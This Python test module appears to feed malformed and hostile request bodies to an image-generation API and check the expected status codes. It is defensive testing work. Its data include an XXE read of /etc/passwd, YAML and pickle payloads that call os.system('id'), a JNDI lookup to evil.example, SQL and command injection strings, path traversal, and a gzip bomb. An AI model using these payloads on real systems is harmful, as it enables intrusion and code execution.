"""Hostile bodies of jobs."""

from __future__ import annotations

import gzip
from typing import Any

from .case import IMAGE, Case, job

BROKEN = {
    "half an object": b"{",
    "end of an object": b"}",
    "single quotes": b"{'prompt': 'a'}",
    "comma at the end": b'{"prompt": "a",}',
    "no colon": b'{"prompt" "a"}',
    "a word": b"undefined",
    "half a word": b"nul",
    "leading zero": b'{"prompt": "a", "seed": 01}',
    "leading point": b'{"prompt": "a", "strength": .5}',
    "comment": b'{"prompt": "a" /* b */}',
    "half a list": b"[1, 2",
    "half a string": b'"',
    "a null byte": b"\0",
    "null bytes around": b'\0{"prompt": "a"}\0',
    "a raw null byte in a string": b'{"prompt": "a\0b"}',
    "a raw line break in a string": b'{"prompt": "a\nb"}',
    "two objects": b'{"prompt": "a"}{"prompt": "b"}',
    "bytes that are no UTF-8": b'{"prompt": "\xff\xfe"}',
    "overlong UTF-8": b'{"prompt": "\xc0\xaf"}',
    "half an escape": b'{"prompt": "\\u12"}',
    "an unknown escape": b'{"prompt": "\\x41"}',
    "a number of 5000 digits": b'{"prompt": "a", "seed": ' + b"9" * 5000 + b"}",
    "lists 30000 deep": b"[" * 30_000,
    "objects 10000 deep": b'{"a":' * 10_000,
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a form": b"prompt=a+red+apple&n=2",
    "YAML": b"prompt: !!python/object/apply:os.system [id]",
    "a pickle": b"cos\nsystem\n(S'id'\ntR.",
    "gzip": gzip.compress(b'{"prompt": "a"}'),
    "MessagePack": b"\x81\xa6prompt\xa1a",
}

NO_OBJECT = {
    "a list": b"[]",
    "a string": b'"a"',
    "a number": b"7",
    "null": b"null",
    "true": b"true",
    "NaN": b"NaN",
    "a list of jobs": b'[{"prompt": "a"}]',
    "a closed list 5000 deep": b"[" * 900 + b"]" * 900,
}

ODD_PROMPTS_THAT_ARE_TEXT = {
    "SQL": "'; DROP TABLE jobs; --",
    "a script": "<script>alert(1)</script>",
    "a template": "{{7*7}} ${7*7} #{7*7}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a format": "%s%s%n {0.__class__}",
    "a path": "../../../../etc/passwd",
    "a command": "$(touch /tmp/limner-hostile) `id` | id; id",
    "right to left": "\u202egpj.elppa",
    "many accents": "a" + "\u0301" * 900,
    "1000 faces": "\U0001f600" * 1000,
    "no width": "\u200b\u200d\ufeff",
    "no characters": "\ufffe\uffff\U0010ffff",
    "other digits": "\u0663 apples",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "only tabs and a letter": "\t\n\ta",
    "brackets for weights": "((((((((a))))))))[[[[b]]]]:1e9",
    "1000 brackets": "(" * 1000,
    "negative weights": "(a:-1e308)(b:nan)(c:inf)",
}

CONTROL = ["\0", "\x01", "\x08", "\x0b", "\x0d", "\x1b[2J", "\x7f", "\x85", "\x9f"]
BLANK = ["", " ", "\t\n", "\u3000", "\u00a0\u2003"]

NOT_OF_A_FIELD: dict[str, list[Any]] = {
    "prompt": [None, 7, True, [], {}, ["a"], "a" * 1001, "\ud800"],
    "negative_prompt": [None, 7, [], "a" * 1001, "\0"],
    "seed": ["7", True, -1, 2**32, 2**64, 10**400, 0.5, [], {}],
    "steps": [0, -1, 151, 1_000_000, 1.5, "4", True, []],
    "guidance_scale": [0, 0.99, 31, 1e308, -1e308, "4", True],
    "n": [0, -1, 9, 1e9, "2", None, [1]],
    "width": [0, -64, 65, 2**31, 2**63, "64", 64.5],
    "height": [0, -64, 65, 2**31, "64"],
    "guidance_interval": [[0.8], [0, 0.5, 1], [-0.1, 1], [0, 1.1], ["0", "1"], [True, 1], "0,1", 1, {}],
    "keep": [[0, 0, 1], [0, 0, 1, 1.1], [0, 0, "1", 1], [0, 0, 0.5, 1], [[], [], [], []], "0,0,1,1", 1, {}],
    "outward": [0, 0.2, 1, -0.5, 0.5, "0.5", True, []],
    "strength": [0, -0.1, 1.01, "0.5"],
    "variation_strength": [0, 2],
    "variation_seed": [-1, 2**32],
    "feature_reuse": [0, 11, True],
    "decoder": ["huge", "", 1, None, []],
    "attention": ["true", 1, None, "yes"],
    "temperature": [0, 11, "1"],
    "top_k": [0, 65_537],
}

MODELS = [
    "", " ", "..", "../../etc", "/etc/passwd", "storybook@../..", "storybook@..%2f..", "STORYBOOK", "storybook\0",
    "storybook\n", "storybook@1@1", "storybook@nothing", "file:///etc/passwd", "http://evil.example/m", "~root",
    "C:\\Windows", "a" * 141, "sto\u200brybook", "\uff53torybook", 7, True, ["storybook"], {"name": "storybook"},
]  # fmt: skip

PICTURES = [
    "", "0" * 63, "0" * 65, "A" * 64, "0" * 64, "../" * 21 + "a", "/etc/passwd", "\u0660" * 64, "0" * 63 + "\n",
    "file:///etc/passwd", "http://127.0.0.1/v1/images/a", "data:image/png;base64,AAAA", 7, True, [], {"id": "0" * 64},
]  # fmt: skip

UNKNOWN = [
    "__proto__",
    "constructor",
    "__class__",
    "Prompt",
    "prompt ",
    "",
    "a\0b",
    "\ud800",
    "a" * 5000,
    "sampler",
    "id",
]

_DECODER_MAY_BE_LEFT_OUT = ("decoder",)


def cases() -> list[Case]:
    """All of them."""
    made = [job(f"broken: {name}", body, 400) for name, body in BROKEN.items()]
    made += [job(f"no object: {name}", body, 422) for name, body in NO_OBJECT.items()]
    made += [
        job(f"odd but text: {name}", {"prompt": text}, 202)
        for name, text in ODD_PROMPTS_THAT_ARE_TEXT.items()
    ]
    made += [job(f"control {text!r}", {"prompt": f"a{text}b"}, 422) for text in CONTROL]
    made += [job(f"blank {text!r}", {"prompt": text}, 422) for text in BLANK]
    for name, values in NOT_OF_A_FIELD.items():
        for value in values:
            # null is the same as leaving it out, where that may be.
            right = 202 if value is None and name in _DECODER_MAY_BE_LEFT_OUT else 422
            made.append(job(f"{name}={value!r:.40}", {name: value}, right))
    made += [job(f"model {value!r:.40}", {"model": value}, 422) for value in MODELS]
    made += [job(f"image {value!r:.40}", {"image": value}, 422) for value in PICTURES]
    made += [job(f"mask {value!r:.40}", {"image": IMAGE, "mask": value}, 422) for value in PICTURES[:6]]
    made += [job(f"unknown field {name!r:.40}", {name: "a"}, 422) for name in UNKNOWN]
    return made + _others()


def _others() -> list[Case]:
    plain = b'{"prompt": "a"}'
    return [
        job("the same field twice: the last one counts", b'{"prompt": 7, "prompt": "a"}', 202),
        job("the same field twice, the last is wrong", b'{"prompt": "a", "prompt": 7}', 422),
        job("nothing", b"", 422, 400),
        job("UTF-8 of a surrogate", b'{"prompt": "\xed\xa0\x80"}', 422, 400),
        job("NaN", b'{"prompt": "a", "guidance_scale": NaN}', 422),
        job("Infinity", b'{"prompt": "a", "guidance_scale": Infinity}', 422),
        job("minus Infinity", b'{"prompt": "a", "strength": -Infinity}', 422),
        job("a number over all", b'{"prompt": "a", "guidance_scale": 1e400}', 422),
        job("a whole number over all", b'{"prompt": "a", "seed": 1e400}', 422),
        job("a seed of 4000 digits", b'{"prompt": "a", "seed": ' + b"9" * 4000 + b"}", 422),
        job("a tiny number", b'{"prompt": "a", "strength": 1e-400}', 422),
        job("minus zero", b'{"prompt": "a", "seed": -0}', 202),
        job("half a surrogate pair, escaped", b'{"prompt": "\\ud83d"}', 422),
        job("a mark of order first", b"\xef\xbb\xbf" + plain, 202, 400),
        job("UTF-16", '{"prompt": "a"}'.encode("utf-16"), 202, 400),
        job("UTF-7", b'{"prompt": "+AGE-"}', 202, headers=["Content-Type-Charset: utf-7"]),
        job("space around", b" \r\n\t" * 1000 + plain + b" " * 1000, 202),
        job("3000 fields", b"{" + b",".join(b'"f%d":0' % k for k in range(3000)) + b"}", 422),
        job("64 kB and one byte", b'{"prompt": "' + b"a" * 65_536 + b'"}', 413),
        job("64 kB of escapes", b'{"prompt": "' + b"\\u0041" * 10_000 + b'"}', 422),
        job("packed", gzip.compress(plain), 400, headers=["Content-Encoding: gzip"]),
        job("packed to a bomb", gzip.compress(bytes(20_000_000)), 400, headers=["Content-Encoding: gzip"]),
        job("said to be packed", plain, 202, headers=["Content-Encoding: br"]),
    ]
